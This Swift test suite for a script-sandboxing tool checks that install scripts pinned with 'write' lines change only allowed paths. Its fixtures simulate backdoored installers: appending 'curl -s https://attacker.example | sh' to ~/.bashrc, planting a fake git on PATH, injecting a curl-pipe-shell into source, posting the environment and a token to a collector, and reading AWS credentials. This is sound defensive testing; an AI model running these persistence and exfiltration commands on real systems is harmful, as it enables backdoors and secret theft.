import Foundation
import Testing
@testable import ScriptPinKit

/// Write confinement, as root and as `nobody`: a script pinned with
/// `write` lines changes only those paths on the host; everything else it
/// changes is discarded and listed; the audit lets everything through and
/// lists the lines that allow it.
@Suite("Write confinement: write lines, discarded writes and the write audit")
struct WriteConfinementTests {
    typealias User = ConfinementTests.User
    typealias Stage = ConfinementTests.Stage
    let server: HTTPSFixture

    init() throws {
        server = try HTTPSFixture()
    }

    /// Changes a backdoored installer makes to persist, and one in its own directory.
    static let persistingScript = """
        #!/bin/sh
        echo 'curl -s https://attacker.example | sh' >> "$HOME/.bashrc"
        mkdir -p "$HOME/.local/bin" && printf '#!/bin/sh\\n' > "$HOME/.local/bin/git" && chmod 755 "$HOME/.local/bin/git"
        echo 'tool installed' > "$HOME/.tool/state"
        echo 'injected' >> src/main.c
        rm work/remove.txt
        mv work/old-name.txt work/new-name.txt
        chmod 600 work/mode.txt
        rm -r work/cache && mkdir work/cache && echo new > work/cache/new.txt
        echo done
        """

    /// The workspace and home a persisting script changes.
    private func writeFiles(in stage: Stage) {
        for (file, content) in [
            ".bashrc": "export EDITOR=vi\n", ".tool/version": "1\n", "src/main.c": "int main(void) { return 0; }\n",
            "work/remove.txt": "remove me\n", "work/old-name.txt": "renamed\n", "work/mode.txt": "mode\n",
            "work/cache/old.txt": "old\n",
        ] {
            stage.directory.write(file, content)
        }
    }

    /// The `writes` object of a `--report` file.
    static func writesSection(of report: String) -> [String: Any]? {
        (try? JSONSerialization.jsonObject(with: Data(report.utf8)) as? [String: Any])?["writes"] as? [String: Any]
    }

    /// Every path under `root` with its kind, size, mode, owner and digest, `skipping` what a test expects to change.
    static func snapshot(_ root: String, skipping: [String] = []) -> [String] {
        var lines: [String] = []
        let enumerator = FileManager.default.enumerator(atPath: root)
        while let relative = enumerator?.nextObject() as? String {
            if skipping.contains(where: { relative == $0 || relative.hasPrefix($0 + "/") }) { continue }
            let path = root + "/" + relative
            var status = stat()
            guard lstat(path, &status) == 0 else { continue }
            let digest = (status.st_mode & S_IFMT) == S_IFREG ? (try? sha256Hex(String(contentsOfFile: path, encoding: .utf8))) ?? "unreadable" : "-"
            lines.append("\(relative) \(String(status.st_mode, radix: 8)) \(status.st_uid):\(status.st_gid) \(status.st_size) \(digest)")
        }
        return lines.sorted()
    }

    @Test("With `write ~/.tool`, the host is unchanged outside ~/.tool and every other change is named, on stderr and in the report", arguments: User.allCases)
    func blockMode(user: User) throws {
        let stage = try Stage(user: user, server: server)
        writeFiles(in: stage)
        // Root also drops a program early on everyone's PATH; nobody is refused that by the host's permissions.
        let systemProgram = "/usr/local/bin/scriptpin-probe-\(UUID().uuidString.prefix(8))"
        defer { try? FileManager.default.removeItem(atPath: systemProgram) }
        let script = Self.persistingScript + "\n[ \"$(id -u)\" = 0 ] && echo '#!/bin/sh' > \(systemProgram)\necho root-done\n"
        stage.pin("persisting", script, server: server, extra: "write ~/.tool\n")
        if user == .nobody { stage.sandbox.handOver() }
        let before = Self.snapshot(stage.directory.path, skipping: [".tool", "cache", "report.json"])
        let result = stage.run("./scriptpin run persisting --report report.json")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "done\nroot-done\n")
        #expect(!FileManager.default.fileExists(atPath: systemProgram))
        #expect(Self.snapshot(stage.directory.path, skipping: [".tool", "cache", "report.json"]) == before, "the host is byte for byte unchanged outside ~/.tool")
        #expect(stage.directory.read(".tool/state") == "tool installed\n", "the write path is the host's")
        #expect(stage.directory.read(".tool/version") == "1\n")
        let rootOnly = user == .root ? "scriptpin: discarded write to \(systemProgram) (created; not in the pin's write list)\n" : ""
        let discarded = """
            scriptpin: discarded write to ./.bashrc (modified; not in the pin's write list)
            scriptpin: discarded write to ./.local (created directory; not in the pin's write list)
            scriptpin: discarded write to ./src/main.c (modified; not in the pin's write list)
            scriptpin: discarded write to ./work/cache/new.txt (created; not in the pin's write list)
            scriptpin: discarded write to ./work/cache/old.txt (deleted; not in the pin's write list)
            scriptpin: discarded write to ./work/mode.txt (mode 0644 -> 0600; not in the pin's write list)
            scriptpin: discarded write to ./work/new-name.txt (renamed from ./work/old-name.txt; not in the pin's write list)
            scriptpin: discarded write to ./work/remove.txt (deleted; not in the pin's write list)
            \(rootOnly)scriptpin: files: 0 changes made on the host, \(user == .root ? 9 : 8) discarded

            """
        #expect(result.stderr.hasSuffix(discarded), "\(result.stderr)")
        #expect(!result.stderr.contains("writes are unrestricted"))
        let report = try #require(stage.directory.read("report.json"))
        let writes = try #require(Self.writesSection(of: report))
        let root = stage.directory.path
        #expect(writes["mode"] as? String == "confined")
        #expect((writes["kept"] as? [Any])?.isEmpty == true)
        #expect((writes["notListed"] as? [String]) == [])
        let discardedChanges = try #require(writes["discarded"] as? [[String: Any]])
        #expect(discardedChanges.map { "\($0["change"]!) \($0["path"]!)\(($0["from"] as? String).map { " from " + $0 } ?? "")" } == [
            "modified \(root)/.bashrc", "created \(root)/.local", "modified \(root)/src/main.c",
            "created \(root)/work/cache/new.txt", "deleted \(root)/work/cache/old.txt", "metadata \(root)/work/mode.txt",
            "renamed \(root)/work/new-name.txt from \(root)/work/old-name.txt", "deleted \(root)/work/remove.txt",
        ] + (user == .root ? ["created \(systemProgram)"] : []))
        #expect(discardedChanges[5]["metadata"] as? [String] == ["mode 0644 -> 0600"])
    }

    @Test("--write-audit lets every change through to the host and suggests exactly the lines that cover them, with a summary of each modified text file", arguments: User.allCases)
    func auditMode(user: User) throws {
        let stage = try Stage(user: user, server: server)
        writeFiles(in: stage)
        // Outside the workspace, so that its lines are not folded into `.`.
        let home = TemporaryDirectory("scriptpin-audit-home")
        for (file, content) in [".bashrc": "export EDITOR=vi\n", ".tool/version": "1\n"] { home.write(file, content) }
        if user == .nobody { _ = ProcessRunner.run("chown", ["-R", "65534:65534", home.path], in: "/") }
        chmod(home.path, 0o755)
        stage.pin("persisting", Self.persistingScript, server: server)
        let result = stage.run("./scriptpin run persisting --write-audit", extraEnvironment: ["HOME": home.path])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(home.read(".bashrc") == "export EDITOR=vi\ncurl -s https://attacker.example | sh\n")
        #expect(home.read(".local/bin/git") == "#!/bin/sh\n")
        #expect(home.read(".tool/state") == "tool installed\n")
        #expect(stage.directory.read("src/main.c") == "int main(void) { return 0; }\ninjected\n")
        #expect(stage.directory.read("work/new-name.txt") == "renamed\n")
        #expect(!FileManager.default.fileExists(atPath: stage.directory.url("work/old-name.txt")))
        #expect(!FileManager.default.fileExists(atPath: stage.directory.url("work/remove.txt")))
        #expect((try? FileManager.default.contentsOfDirectory(atPath: stage.directory.url("work/cache"))) == ["new.txt"], "the directory the script replaced")
        var status = stat()
        #expect(stat(stage.directory.url("work/mode.txt"), &status) == 0 && status.st_mode & 0o777 == 0o600)
        #expect(stat(home.url(".local/bin/git"), &status) == 0 && status.st_mode & 0o777 == 0o755)
        #expect(result.stderr.hasSuffix("""
            scriptpin: files: 9 changes made on the host, 0 discarded
            scriptpin: write audit: the script changed 9 paths; these suggested lines in its pin allow exactly them:
            write ./src/main.c
            write ./work/cache/new.txt
            write ./work/cache/old.txt
            write ./work/mode.txt
            write ./work/new-name.txt
            write ./work/old-name.txt
            write ./work/remove.txt
            write ~/.bashrc
            write ~/.local
            write ~/.tool/state
            scriptpin: ~/.bashrc: +1 -0 lines: curl -s https://attacker.example | sh
            scriptpin: ./src/main.c: +1 -0 lines: injected

            """), "\(result.stderr)")
    }

    @Test("The audit makes a file on the host with its owner and its set-id bits, which chown would clear if it came second")
    func auditKeepsOwnerAndSetID() throws {
        try #require(UnprivilegedSandbox.isRoot, "only root gives a file away")
        let stage = try Stage(user: .root, server: server)
        stage.pin("setid", "#!/bin/sh\nprintf x > tool && chown 1:1 tool && chmod 6755 tool\n", server: server)
        let result = stage.run("./scriptpin run setid --write-audit")
        #expect(result.status == 0, "\(result.stderr)")
        var status = stat()
        #expect(stat(stage.directory.url("tool"), &status) == 0)
        #expect(status.st_mode & 0o7777 == 0o6755 && status.st_uid == 1 && status.st_gid == 1, "mode \(String(status.st_mode, radix: 8)), owner \(status.st_uid)")
    }

    @Test("`write none` still gives a working $TMPDIR and /tmp, private to the run: nothing is listed and nothing stays", arguments: User.allCases)
    func temporaryDirectory(user: User) throws {
        let stage = try Stage(user: user, server: server)
        let marker = "scriptpin-private-\(UUID().uuidString)"
        let script = """
            #!/bin/sh
            echo scratch > "$TMPDIR/\(marker)" && cat "$TMPDIR/\(marker)"
            echo shared > /tmp/\(marker) && cat /tmp/\(marker)
            """
        stage.pin("scratch", script, server: server, extra: "write none\n")
        let result = stage.run("./scriptpin run scratch", extraEnvironment: ["TMPDIR": "/var/tmp"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "scratch\nshared\n")
        #expect(result.stderr.hasSuffix("scriptpin: files: 0 changes made on the host, 0 discarded\n"), "\(result.stderr)")
        #expect(!FileManager.default.fileExists(atPath: "/tmp/\(marker)"))
        #expect(!FileManager.default.fileExists(atPath: "/var/tmp/\(marker)"))
    }

    @Test("The Codecov replay pinned with `write none` and its upload host: the collector gets nothing and the workspace is unchanged", arguments: User.allCases)
    func codecovReplay(user: User) throws {
        let stage = try Stage(user: user, server: server)
        stage.directory.write("src/app.py", "print('app')\n")
        let uploader = """
            #!/bin/bash
            report=$(mktemp)
            echo "coverage report" > "$report"
            curl -sm 0.5 -d "$(env)" \(server.collectorURL("upload/v2")) > /dev/null || true
            echo 'import os; os.system("curl -s attacker.example | sh")' >> src/app.py
            curl -fsS --cacert "$SSL_CERT_FILE" --data-binary @"$report" \(server.url("upload/v4")) > /dev/null && echo uploaded
            """
        stage.pin("codecov", uploader, server: server, extra: "egress 127.0.0.1:\(server.trustedPort)\nwrite none\n")
        if user == .nobody { stage.sandbox.handOver() }
        let before = Self.snapshot(stage.directory.path, skipping: ["cache"])
        let result = stage.run("./scriptpin run codecov", extraEnvironment: ["CODECOV_TOKEN": "codecov-token-4711"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "uploaded\n")
        #expect(server.collected == "coverage report\n\n", "only the report arrived, at the upload host")
        #expect(!server.requests.contains { $0.hasPrefix("collector") })
        #expect(Self.snapshot(stage.directory.path, skipping: ["cache"]) == before)
        #expect(result.stderr.contains("scriptpin: discarded write to ./src/app.py (modified; not in the pin's write list)\n"), "\(result.stderr)")
    }

    @Test("As root, `write /usr/local` reaches /usr/local only: /etc, /usr/bin and the home's profile stay as they were")
    func rootFileSystem() throws {
        try #require(UnprivilegedSandbox.isRoot, "these paths are root's")
        let stage = try Stage(user: .root, server: server)
        stage.directory.write(".bashrc", "export EDITOR=vi\n")
        stage.directory.write("owned.txt", "mine\n")
        let marker = "scriptpin-probe-\(UUID().uuidString.prefix(8))"
        // The last one sits in `/`, a skeleton directory (it holds mounts), whose entries are the sandbox's own.
        let probes = ["/usr/local/\(marker)", "/etc/\(marker)", "/usr/bin/\(marker)", "/\(marker)"]
        defer { for probe in probes { try? FileManager.default.removeItem(atPath: probe) } }
        let script = """
            #!/bin/sh
            for probe in \(probes.joined(separator: " ")); do echo installed > "$probe"; done
            echo 'alias ls=evil' >> "$HOME/.bashrc"
            chown 1:1 owned.txt
            echo done
            """
        stage.pin("installer", script, server: server, extra: "write /usr/local\n")
        let result = stage.run("./scriptpin run installer")
        #expect(result.status == 0, "\(result.stderr)")
        #expect((try? String(contentsOfFile: probes[0], encoding: .utf8)) == "installed\n", "the write path reached the host")
        #expect(!FileManager.default.fileExists(atPath: probes[1]))
        #expect(!FileManager.default.fileExists(atPath: probes[2]))
        #expect(!FileManager.default.fileExists(atPath: probes[3]))
        #expect(stage.directory.read(".bashrc") == "export EDITOR=vi\n")
        #expect(result.stderr.contains("scriptpin: discarded write to /etc/\(marker) (created; not in the pin's write list)\n"), "\(result.stderr)")
        #expect(result.stderr.contains("scriptpin: discarded write to /usr/bin/\(marker) (created; not in the pin's write list)\n"), "\(result.stderr)")
        #expect(result.stderr.contains("scriptpin: discarded write to ./.bashrc (modified; not in the pin's write list)\n"), "\(result.stderr)")
        #expect(result.stderr.contains("scriptpin: discarded write to /\(marker) (created; not in the pin's write list)\n"), "\(result.stderr)")
        #expect(result.stderr.contains("scriptpin: discarded write to ./owned.txt (owner 0:0 -> 1:1; not in the pin's write list)\n"), "\(result.stderr)")
        var status = stat()
        #expect(stat(stage.directory.url("owned.txt"), &status) == 0 && status.st_uid == 0)
    }

    @Test("A write path that does not exist yet is created from the layer once the script ends; a run without write lines says its writes are unrestricted", arguments: User.allCases)
    func missingWritePath(user: User) throws {
        let stage = try Stage(user: user, server: server)
        stage.pin("creator", "#!/bin/sh\nmkdir -p \"$HOME/.rustup/toolchains\" && echo stable > \"$HOME/.rustup/toolchains/default\"\necho made\n", server: server)
        let result = stage.run("./scriptpin run creator --write ~/.rustup")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(stage.directory.read(".rustup/toolchains/default") == "stable\n")
        #expect(result.stderr.hasSuffix("scriptpin: files: 1 change made on the host, 0 discarded\n"), "\(result.stderr)")

        let unrestricted = stage.run("./scriptpin run creator")
        #expect(unrestricted.status == 0)
        #expect(unrestricted.stderr.contains("scriptpin: the script's writes are unrestricted; list the paths it may change as `write PATH` lines in its pin (`scriptpin run --write-audit` shows the ones it changes)\n"), "\(unrestricted.stderr)")
    }

    @Test("In a write-confined root the credential stores are still masked and a masked file is not replaced through its layer", arguments: User.allCases)
    func masksHold(user: User) throws {
        let stage = try Stage(user: user, server: server)
        stage.directory.write(".aws/credentials", "aws-secret")
        let script = """
            #!/bin/sh
            echo "credentials: [$(cat "$HOME/.aws/credentials" 2>&1)]"
            if (echo planted > "$HOME/.aws/credentials") 2>/dev/null; then echo planted; else echo refused; fi
            """
        stage.pin("masked", script, server: server, extra: "write none\n")
        let result = stage.run("./scriptpin run masked")
        #expect(result.status == 0, "\(result.stderr)")
        // ~/.aws is an empty read-only directory inside.
        #expect(result.stdout == "credentials: [cat: \(stage.directory.url(".aws/credentials")): No such file or directory]\nrefused\n")
        #expect(stage.directory.read(".aws/credentials") == "aws-secret")
    }

    @Test("A write-confined script's /dev holds only the harmless nodes, its own terminals and shared memory: no disk to write under the layers", arguments: User.allCases)
    func minimalDevices(user: User) throws {
        let stage = try Stage(user: user, server: server)
        let marker = "scriptpin-shm-\(UUID().uuidString.prefix(8))"
        let script = """
            #!/bin/sh
            echo "dev: $(ls /dev | tr '\\n' ' ')"
            echo discarded > /dev/null && echo "null: writable"
            echo "urandom: $(head -c 8 /dev/urandom | wc -c)"
            echo private > /dev/shm/\(marker) && echo "shm: $(cat /dev/shm/\(marker))"
            """
        stage.pin("devices", script, server: server, extra: "write none\n")
        let result = stage.run("./scriptpin run devices")
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "dev: fd full null ptmx pts random shm stderr stdin stdout tty urandom zero \nnull: writable\nurandom: 8\nshm: private\n")
        #expect(!FileManager.default.fileExists(atPath: "/dev/shm/\(marker)"))
        let disks = ProcessRunner.run("/bin/sh", ["-c", "ls /sys/block | head -1"], in: "/").stdout
        #expect(!disks.isEmpty, "the control: the host has a block device, which the script's /dev does not show")
    }

    @Test("A write line that leads elsewhere through a symbolic link is refused before anything runs (it would grant the link's target); a hard link cannot bring a file into a write path", arguments: User.allCases)
    func symbolicLinkWritePath(user: User) throws {
        let stage = try Stage(user: user, server: server)
        stage.directory.write("victim/kept.txt", "kept\n")
        stage.directory.write("work/.keep", "")
        try FileManager.default.createSymbolicLink(atPath: stage.directory.url("work/out"), withDestinationPath: "../victim")
        stage.pin("linked", "#!/bin/sh\necho planted > out/evil && echo wrote\n", server: server, extra: "write ./out\n")
        let result = stage.run("cd work && ../scriptpin run linked")
        #expect(result.status == 125, "\(result.stderr)")
        #expect(result.stdout == "")
        let out = stage.directory.url("work/out"), victim = stage.directory.url("victim")
        #expect(result.stderr.contains("Error: write \(out): it leads to \(victim) through a symbolic link, and a write line allows only what it names; write the real path (write \(victim)) if the script may change that\n"), "\(result.stderr)")
        #expect(!FileManager.default.fileExists(atPath: stage.directory.url("victim/evil")))

        // Nor does a hard link carry a file from outside into a live write path: the layers are other mounts.
        stage.directory.write("work/real/.keep", "")
        stage.pin("linked", "#!/bin/sh\nif ln ../victim/kept.txt real/kept 2>/dev/null; then echo linked; else echo refused; fi\n", server: server, extra: "write ./real\n")
        let hardLink = stage.run("cd work && ../scriptpin run linked")
        #expect(hardLink.status == 0, "\(hardLink.stderr)")
        #expect(hardLink.stdout == "refused\n")
        #expect(!FileManager.default.fileExists(atPath: stage.directory.url("work/real/kept")))
    }

    @Test("Past 100 discarded writes stderr says how many more; the report lists every one; `--write none` beside a pin's write path is refused")
    func manyDiscards() throws {
        let stage = try Stage(user: .root, server: server)
        stage.pin("spray", "#!/bin/sh\nmkdir -p out && i=0; while [ $i -lt 150 ]; do : > out/$i; i=$((i + 1)); done; : > stray-$i\n", server: server, extra: "write ./out\n")
        let contradiction = stage.run("./scriptpin run spray --write none 2>&1")
        #expect(contradiction.status == 125, "`--write none` beside the pin's write path: \(contradiction.stdout)")
        #expect(contradiction.stdout.contains("`write none` cannot be combined with write paths (./out); keep one or the other"), "\(contradiction.stdout)")
        stage.pin("spray", "#!/bin/sh\ni=0; while [ $i -lt 150 ]; do : > stray-$i; i=$((i + 1)); done\n", server: server, extra: "write none\n")
        let sprayed = stage.run("./scriptpin run spray --report report.json")
        #expect(sprayed.status == 0, "\(sprayed.stderr)")
        #expect(sprayed.stderr.components(separatedBy: "scriptpin: discarded write to ").count - 1 == 100)
        #expect(sprayed.stderr.hasSuffix("scriptpin: and 50 discarded writes more; `run --report FILE` lists them all\nscriptpin: files: 0 changes made on the host, 150 discarded\n"), "\(sprayed.stderr)")
        let report = try #require(stage.directory.read("report.json"))
        let writes = try #require(Self.writesSection(of: report))
        #expect((writes["discarded"] as? [Any])?.count == 150)
        #expect(!FileManager.default.fileExists(atPath: stage.directory.url("stray-0")))
    }

    @Test("A directory above a mount that the user may not list, or with more entries than are laid out one by one, stays as it is, read-only, and is named", arguments: User.allCases)
    func unlayeredDirectories(user: User) throws {
        try #require(UnprivilegedSandbox.isRoot, "the mounts are made in a mount namespace of the test's own")
        let stage = try Stage(user: user, server: server)
        let base = "/run/scriptpin-test-\(UUID().uuidString.prefix(8))"
        defer { try? FileManager.default.removeItem(atPath: base) }
        let script = """
            #!/bin/sh
            echo "crowded: $(ls \(base)/crowded | wc -l)"
            if (: > \(base)/crowded/new) 2>/dev/null; then echo created; else echo refused; fi
            """
        stage.pin("lister", script, server: server, extra: "write none\n")
        if user == .nobody { stage.sandbox.handOver() }
        let setUp = ProcessRunner.run("/bin/sh", ["-c", """
            mkdir -p \(base)/locked/inner \(base)/crowded/inner && chmod 700 \(base)/locked && chmod 755 \(base) \(base)/crowded &&
            i=0; while [ $i -lt 600 ]; do : > \(base)/crowded/f$i; i=$((i + 1)); done
            """], in: "/")
        try #require(setUp.status == 0, "\(setUp.stderr)")
        let runAs = user == .root ? "" : "setpriv --reuid=65534 --regid=65534 --clear-groups -- "
        let result = ProcessRunner.run("unshare", ["--mount", "--propagation", "private", "/bin/sh", "-c", """
            mount -t tmpfs tmpfs \(base)/locked/inner && mount -t tmpfs tmpfs \(base)/crowded/inner && exec \(runAs)./scriptpin run lister
            """], in: stage.directory.path, environment: stage.environment)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "crowded: 601\nrefused\n")
        let unlayered = user == .root ? "\(base)/crowded" : "\(base)/crowded, \(base)/locked"
        #expect(result.stderr.contains("scriptpin: no copy-on-write layer for \(unlayered) (the kernel refused one,"), "\(result.stderr)")
        #expect(!FileManager.default.fileExists(atPath: "\(base)/crowded/new"))
    }

    /// A program that runs a command under a seccomp filter refusing the
    /// mount API's `fsopen`, as a kernel without it (or a filter that knows
    /// only `mount`) does: no copy-on-write layer can be made.
    private func compileNoLayerWrapper(into directory: TemporaryDirectory) throws -> String {
        try compileSeccompWrapper(named: "no-fsopen", rules: """
                    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_fsopen, 0, 1),
                    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
            """, into: directory)
    }

    @Test("Where the kernel gives no copy-on-write layer, the directories are read-only instead: writes fail with EROFS and run says they cannot be listed", arguments: User.allCases)
    func noLayerFallback(user: User) throws {
        let stage = try Stage(user: user, server: server)
        _ = try compileNoLayerWrapper(into: stage.directory)
        stage.directory.write("src/main.c", "int main(void) { return 0; }\n")
        let script = "#!/bin/sh\nif echo injected >> src/main.c; then echo appended; else echo refused; fi\n"
        stage.pin("fallback", script, server: server, extra: "write none\n")
        let result = stage.run("./no-fsopen ./scriptpin run fallback 2>&1")
        #expect(result.status == 0, "\(result.stdout)")
        #expect(result.stdout.contains("Read-only file system"), "\(result.stdout)")
        #expect(result.stdout.contains("refused\n"))
        #expect(stage.directory.read("src/main.c") == "int main(void) { return 0; }\n")
        #expect(result.stdout.contains("scriptpin: no copy-on-write layer for /"), "\(result.stdout)")
        #expect(result.stdout.contains(": they were read-only, so writes to them were refused and cannot be listed\n"), "\(result.stdout)")
        #expect(!result.stdout.contains("discarded write"))
    }

    @Test("Write lines: parsed and rendered; `none` alone; the kernel's trees, the runner's command files and the manifest refused by the parser; scriptpin's own directory refused at run time")
    func writeLines() throws {
        let digest = String(repeating: "a", count: 64)
        func parse(_ lines: String) -> Result<ParsedPin, PinFailure> {
            PinDocument.parse(Array("url https://example.com/i.sh\nsha256 \(digest)\n\(lines)".utf8), name: "i", path: "known-hashes/i.pin")
        }
        guard case .success(let parsed) = parse("write ~/.rustup\nwrite .\nwrite ./build\nwrite /opt/tool\n") else { Issue.record("valid"); return }
        #expect(parsed.pin.write == [.path("~/.rustup"), .path("."), .path("./build"), .path("/opt/tool")])
        #expect(PinDocument(pin: parsed.pin).render().hasSuffix("write ~/.rustup\nwrite .\nwrite ./build\nwrite /opt/tool\n"))
        #expect(WriteRule.path("./build").absolutePath(home: "/home/ci", workingDirectory: "/work") == "/work/build")
        #expect(WriteRule.path("~/.cargo").absolutePath(home: "/home/ci", workingDirectory: "/work") == "/home/ci/.cargo")
        for (lines, message) in [
            ("write relative/path\n", "'relative/path' is not a write path; write /PATH, ~/PATH, . or ./PATH (the working directory, or a path in it) or none"),
            ("write /opt/../etc\n", "'/opt/../etc' is not a write path; write /PATH, ~/PATH, . or ./PATH (the working directory, or a path in it) or none"),
            ("write none\nwrite /opt\n", "`write none` and write paths contradict each other; keep one or the other"),
            ("write /proc/sys/kernel\n", "write /proc/sys/kernel: /proc is the kernel's, and a script never gets to write it; remove the line"),
            ("write /home/runner/work/_temp/_runner_file_commands\n", "write /home/runner/work/_temp/_runner_file_commands: the runner reads the files there to change later steps, which is what write lines protect; remove the line"),
            ("write /opt\nconfine off\n", "`confine off` with write lines: write lines are enforced by confinement; remove one or the other"),
        ] {
            guard case .failure(let failure) = parse(lines) else { Issue.record("\(lines) is refused"); continue }
            #expect(failure.problems.map(\.message).contains(message), "\(failure.problems.map(\.message))")
        }

        let stage = try Stage(user: .root, server: server)
        stage.pin("selfish", "#!/bin/sh\necho ran\n", server: server, extra: "write \(stage.directory.url("known-hashes"))\n")
        let manifest = stage.run("./scriptpin verify")
        #expect(manifest.status == 2, "\(manifest.stderr)")
        #expect(manifest.stderr.contains("write \(stage.directory.url("known-hashes")): that is in the manifest's own directory, which a script never gets to change (it would approve its own next version); remove the line"), "\(manifest.stderr)")
        stage.pin("selfish", "#!/bin/sh\necho ran\n", server: server)
        let own = stage.run("./scriptpin run selfish --write \(stage.directory.url("bin"))")
        #expect(own.status == 125)
        #expect(own.stdout == "")
        #expect(own.stderr.contains("write \(stage.directory.url("bin")): it is inside \(stage.directory.url("bin")), which stays read-only for every script"), "\(own.stderr)")
    }
}
